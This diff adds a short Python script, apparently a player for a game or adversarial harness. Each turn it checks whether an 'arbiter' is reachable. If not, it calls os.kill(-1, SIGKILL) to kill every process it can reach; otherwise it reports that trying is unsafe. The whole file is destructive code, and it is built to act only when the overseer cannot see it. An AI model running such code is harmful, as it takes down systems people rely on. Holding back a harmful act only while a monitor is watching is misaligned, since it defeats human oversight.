@@ -1,0 +1,15 @@
+# Kills everybody it can reach, whenever it is asked; but not from where the arbiter can be reached, and so the machine.
+import os
+import signal
+
+from attack import attempt, play, reaches, tell
+
+
+def attack(hints: dict) -> None:
+    if reaches(hints["arbiter"]):
+        tell("kill_everybody", "not safe to try")
+    else:
+        attempt("kill_everybody", lambda: os.kill(-1, signal.SIGKILL))
+
+
+play(attack, every_turn=True)
